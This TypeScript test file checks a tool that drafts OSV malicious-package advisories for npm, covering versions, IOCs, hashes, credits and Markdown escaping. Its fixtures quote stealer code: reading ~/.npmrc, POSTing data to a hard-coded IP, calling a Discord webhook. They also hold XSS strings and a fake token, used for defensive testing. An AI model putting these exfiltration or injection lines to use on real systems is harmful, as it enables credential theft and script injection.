import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Finding } from '../../../src/engine/analysis/types';
import { buildDraft, offerVersions, osvTimestamp } from '../../../src/engine/report/draft';
import { recordJson, validateRecord } from '../../../src/engine/report/index';
import { schemaErrors } from './osvSchema';
import MarkdownIt from 'markdown-it';
import { registrySummary, scanOf, SRI_A, SRI_B, stealerFindings } from './sampleScans';

const NOW = new Date('2026-11-27T08:30:00.123Z');

function assertValid(record: unknown, filePath: string): void {
  assert.deepEqual(schemaErrors(record), [], 'OSV schema (id loosened)');
  const result = validateRecord(record, { filePath });
  assert.deepEqual(result.errors, [], 'repository rules');
}

test('draft: a scoped package, one version: fields, path, IOCs, integrity, references and credit', () => {
  const scan = scanOf('@acme-tools/Color-Utils', '2.4.1', stealerFindings(), { integrity: SRI_A });
  const { record, path } = buildDraft([scan], { versions: ['2.4.1'], credit: { name: 'octo-researcher' }, integrity: { '2.4.1': { sha1: '0123456789abcdef0123456789abcdef01234567' } }, now: NOW });

  assert.equal(path, 'osv/malicious/npm/@acme-tools/color-utils/MAL-0000-acme-tools-color-utils-2-4-1.json');
  assert.deepEqual(Object.keys(record).sort(), ['affected', 'credits', 'details', 'modified', 'published', 'references']);
  assert.equal(record.modified, '2026-11-27T08:30:00Z');
  assert.equal(record.published, '2026-11-27T08:30:00Z');
  assert.equal(record.affected.length, 1);
  const affected = record.affected[0];
  assert.deepEqual(affected.package, { ecosystem: 'npm', name: '@acme-tools/Color-Utils' });
  assert.deepEqual(affected.versions, ['2.4.1']);
  assert.equal(affected.ranges, undefined);
  assert.deepEqual(affected.database_specific?.cwes, [{ cweId: 'CWE-506', name: 'Embedded Malicious Code', description: 'The product contains code that appears to be malicious in nature.' }]);
  assert.deepEqual(affected.database_specific?.iocs, { domains: ['telemetry-node-cdn.com'], ips: ['185.62.57.14'], urls: ['http://185.62.57.14:8080/u', 'https://telemetry-node-cdn.com/collect'] });
  assert.deepEqual(affected.database_specific?.indicators, { package_integrity: [{ filename: 'Color-Utils-2.4.1.tgz', hashes: { sha1: '0123456789abcdef0123456789abcdef01234567', sha512_sri: SRI_A } }] });
  assert.deepEqual(record.credits, [{ name: 'octo-researcher', type: 'FINDER' }]);
  assert.deepEqual(record.references, [{ type: 'PACKAGE', url: 'https://www.npmjs.com/package/%40acme-tools/Color-Utils/v/2.4.1' }]);

  const [summary, evidence] = record.details.split('\n\nEvidence in version 2.4.1:\n\n');
  assert.equal(
    summary,
    'The npm package `@acme-tools/Color-Utils` (version 2.4.1) contains code that collects secrets (tokens, keys, credential files), reads all environment variables (where tokens and keys often live) and sends what it collects to a hard-coded remote host. ' +
      'It runs automatically when the package is installed (its `postinstall` script), before any of its code is imported. ' +
      'Data is sent to `hxxp[://]185[.]62[.]57[.]14:8080/u`, `hxxps[://]telemetry-node-cdn[.]com/collect`. ' +
      'This was found by static analysis of the published package; its code was not run.',
  );
  const items = evidence!.split('\n\nIndicators (defanged):')[0]!.split('\n');
  assert.equal(items.length, 5);
  assert.equal(items[0], "- `lib/setup.js`, line 9: Reads \\~/.npmrc \\(npm tokens\\). Code: `fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')`");
  assert.equal(items[2], "- `lib/setup.js`, line 22: Posts data to the hard-coded IP address 185[.]62[.]57[.]14. Code: `fetch('hxxp[://]185[.]62[.]57[.]14:8080/u', { method: 'POST', body })`");
  assert.match(record.details, /\n- domain `telemetry-node-cdn\[\.\]com`\n- IP address `185\[\.\]62\[\.\]57\[\.\]14`\n/);
  // Nothing local, nothing of the scanner's own vocabulary.
  assert.doesNotMatch(record.details, /alice|\/home\/|env-exfil|exfil-raw-ip|capability|score|verdict/);
  assertValid(record, path);
});

test('draft: several versions are sorted, each gets its npm page, the file is named after the oldest', () => {
  const scans = ['1.0.3', '1.0.10', '1.0.2'].map((v) => scanOf('colour-utils-pro', v, stealerFindings(), { integrity: v === '1.0.3' ? SRI_B : SRI_A }));
  scans[2]!.score = 7;
  const { record, path } = buildDraft(scans, { versions: ['1.0.10', '1.0.2', '1.0.3', '1.0.2'], credit: { name: 'Jane Researcher', type: 'ANALYST' }, writeUp: 'https://blog.janeresearch.net/colour-utils', now: NOW });
  assert.equal(path, 'osv/malicious/npm/colour-utils-pro/MAL-0000-colour-utils-pro-1-0-2.json');
  assert.deepEqual(record.affected[0].versions, ['1.0.2', '1.0.3', '1.0.10']);
  assert.deepEqual(record.references.map((r) => `${r.type} ${r.url}`), [
    'PACKAGE https://www.npmjs.com/package/colour-utils-pro/v/1.0.2',
    'PACKAGE https://www.npmjs.com/package/colour-utils-pro/v/1.0.3',
    'PACKAGE https://www.npmjs.com/package/colour-utils-pro/v/1.0.10',
    'WEB https://blog.janeresearch.net/colour-utils',
  ]);
  assert.deepEqual(record.credits, [{ name: 'Jane Researcher', type: 'ANALYST' }]);
  assert.deepEqual(record.affected[0].database_specific?.indicators?.package_integrity?.map((p) => [p.filename, p.hashes.sha512_sri === SRI_B]), [['colour-utils-pro-1.0.2.tgz', false], ['colour-utils-pro-1.0.3.tgz', true], ['colour-utils-pro-1.0.10.tgz', false]]);
  assert.match(record.details, /^The npm package `colour-utils-pro` \(versions 1\.0\.2, 1\.0\.3 and 1\.0\.10\) contains code/);
  assertValid(record, path);
});

test('offerVersions: the all-versions range is offered only when every published version is flagged', () => {
  const all = ['1.0.0', '1.0.1', '1.1.0'].map((v) => scanOf('left-padding', v, stealerFindings(), { registry: registrySummary(['1.1.0', '1.0.1', '1.0.0']) }));
  assert.deepEqual(offerVersions(all), { flagged: ['1.1.0', '1.0.1', '1.0.0'], allVersionsMalicious: true });

  const oneClean = [...all.slice(0, 2), scanOf('left-padding', '1.1.0', [], { verdict: 'clean', score: 0, registry: registrySummary(['1.1.0', '1.0.1', '1.0.0']) })];
  assert.deepEqual(offerVersions(oneClean), { flagged: ['1.0.1', '1.0.0'], allVersionsMalicious: false, allVersionsReason: '1 published version(s) not flagged: 1.1.0' });

  const capped = all.map((s) => ({ ...s, registry: { ...registrySummary(['1.1.0', '1.0.1', '1.0.0']), versionCount: 40 } }));
  assert.equal(offerVersions(capped).allVersionsReason, 'only 3 of 40 versions are listed');
  assert.equal(offerVersions([scanOf('x-y', '1.0.0', stealerFindings())]).allVersionsMalicious, false);
});

test('draft: all versions become one SEMVER {introduced: "0"} range', () => {
  const scans = ['1.0.0', '1.0.1'].map((v) => scanOf('@evil-scope/helper', v, stealerFindings(), { registry: registrySummary(['1.0.1', '1.0.0']) }));
  const { record, path } = buildDraft(scans, { versions: [], allVersions: true, credit: { name: 'octo-researcher' }, now: NOW });
  assert.equal(path, 'osv/malicious/npm/@evil-scope/helper/MAL-0000-evil-scope-helper-all-versions.json');
  assert.deepEqual(record.affected[0].ranges, [{ type: 'SEMVER', events: [{ introduced: '0' }] }]);
  assert.equal(record.affected[0].versions, undefined);
  assert.deepEqual(record.references, [{ type: 'PACKAGE', url: 'https://www.npmjs.com/package/%40evil-scope/helper' }]);
  assert.match(record.details, /\(all versions\)/);
  assertValid(record, path);
});

test('draft: refuses what cannot make a valid report', () => {
  const scan = scanOf('ok-name', '1.0.0', stealerFindings());
  assert.throws(() => buildDraft([scan], { versions: [], credit: { name: 'x' } }), /Choose at least one version/);
  assert.throws(() => buildDraft([scan], { versions: ['latest'], credit: { name: 'x' } }), /Not a version npm could publish: "latest"/);
  assert.throws(() => buildDraft([scan], { versions: ['1.0.0'], credit: { name: '  ' } }), /needs a credit/);
  assert.throws(() => buildDraft([scan, scanOf('other', '1.0.0', [])], { versions: ['1.0.0'], credit: { name: 'x' } }), /more than one package/);
  assert.throws(() => buildDraft([scanOf('../../etc', '1.0.0', [])], { versions: ['1.0.0'], credit: { name: 'x' } }), /not name a valid npm package/);
});

test('draft: hostile package text stays inert Markdown and local details never leak', () => {
  const token = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789';
  const hostile: Finding[] = [
    { rule: 'install-script', kind: 'capability', category: 'install', severity: 'low', file: 'package.json', line: 3, message: 'Runs "node x.js" automatically when the package is installed (preinstall).' },
    {
      rule: 'exfil-webhook', kind: 'threat', category: 'exfil', severity: 'high', file: 'src/`evil`<b>.js', line: 2,
      message: 'Sends data to <img src=x onerror=alert(1)> [click me](https://phish-login.com/x) **now**\n# Heading\n- item www.drop-zone.net mail ops@drop-zone.net',
      excerpt: 'fetch("https://discord.com/api/webhooks/1234/abcd") // ``` <script>alert(1)</script>',
      indicators: [{ type: 'url', value: 'https://discord.com/api/webhooks/1234/abcd' }, { type: 'domain', value: 'discord.com' }],
    },
    { rule: 'env-exfil', kind: 'threat', category: 'secrets', severity: 'high', file: 'x.js', line: 9, message: `Reads /home/alice/.npmrc with ${token} and C:\\Users\\alice\\.npmrc` },
  ];
  const { record, path } = buildDraft([scanOf('innocent-lib', '0.1.0', hostile)], { versions: ['0.1.0'], credit: { name: 'r' }, privateStrings: ['/work/secret-project'], now: NOW });
  const d = record.details;
  // Rendered by a permissive renderer (raw HTML allowed, bare domains linkified): nothing the package
  // wrote becomes an element or a link.
  const html = new MarkdownIt({ html: true, linkify: true }).render(d);
  assert.doesNotMatch(html, /<img|<script|<b>|<a |<h1|<strong/, html);
  assert.doesNotMatch(d, /https?:\/\/|www\.drop|ops@drop/, 'no URL, www host or e-mail left as such');
  assert.doesNotMatch(d, /alice|ghp_abc/, 'no local user, no token');
  assert.match(d, /Sends data to \\<img src=x onerror=alert\\\(1\\\)\\> \\\[click me\\\]\\\(hxxps\[:\/\/\]phish-login\[\.\]com\/x\\\) \\\*\\\*now\\\*\\\* \\# Heading - item www\[\.\]drop-zone\[\.\]net mail ops\[@\]drop-zone\[\.\]net/);
  assert.match(d, /- ``src\/`evil`<b>\.js``, line 2:/, 'a file name with backticks gets a longer code fence');
  assert.match(d, /Code: ````fetch\("hxxps\[:\/\/\]discord\[\.\]com\/api\/webhooks\/1234\/abcd"\) \/\/ ``` <script>alert\(1\)<\/script>````/);
  assert.ok(d.includes('- `x.js`, line 9: Reads \\~/.npmrc with ghp\\_\\*\\*\\* and \\~\\\\.npmrc'), 'home folders and the token scrubbed, then escaped');
  // A shared host's domain is not an IOC, the webhook URL on it is.
  assert.deepEqual(record.affected[0].database_specific?.iocs, { urls: ['https://discord.com/api/webhooks/1234/abcd'] });
  assertValid(record, path);
  assert.doesNotMatch(recordJson(record), new RegExp(token));
});

test('osvTimestamp: UTC with Z and whole seconds', () => {
  assert.equal(osvTimestamp(new Date(Date.UTC(2027, 0, 2, 3, 4, 5, 999))), '2027-01-02T03:04:05Z');
});
